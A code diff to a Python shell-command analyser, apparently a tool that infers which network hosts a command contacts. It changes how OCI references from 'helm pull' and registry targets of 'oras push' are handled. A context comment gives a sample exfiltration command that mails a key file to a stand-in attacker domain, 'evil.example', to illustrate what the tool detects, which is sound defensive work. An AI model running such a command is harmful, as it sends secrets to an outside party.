@@ -2061,7 +2061,9 @@ def _generic(argv: list[str], state: _State, name: str) -> None:
             if _looks_like_path(value):
                 _add_path(value, state, write=False)
     if name not in _TEXT_ONLY:
-        _urls(operands, state, name)
+        pushes = "push" in operands
+        # an OCI reference fetched (`helm pull oci://public.ecr.aws/x`) is an image pulled, as `docker pull`
+        _urls([w for w in operands if pushes or w[:6].lower() != "oci://"], state, name)
     if entry is not None and Role.MAILS in entry.roles:  # `mail -a KEY x@evil.example`: the domain receives
         from limen.normalize import net
 
@@ -4968,7 +4970,13 @@ def _push(entry: Program, args: list[str], state: _State) -> None:
         words = words[1:]
     if len(words) < 2 or words[0] not in entry.pushes:
         return
-    target = words[-1]
+    # the last operand that names a registry host (`oras push REF FILE...` names it first), else the last
+    named = [
+        w
+        for w in words[1:]
+        if "/" in w and not w.startswith((".", "/", "~")) and any(c in w.split("/")[0] for c in ".:")
+    ]
+    target = named[-1] if named and entry.push_target == "image" else words[-1]
     via = f"{entry.name} {words[0]}"
     from limen.facts.hosts import image_registry, own_image
 
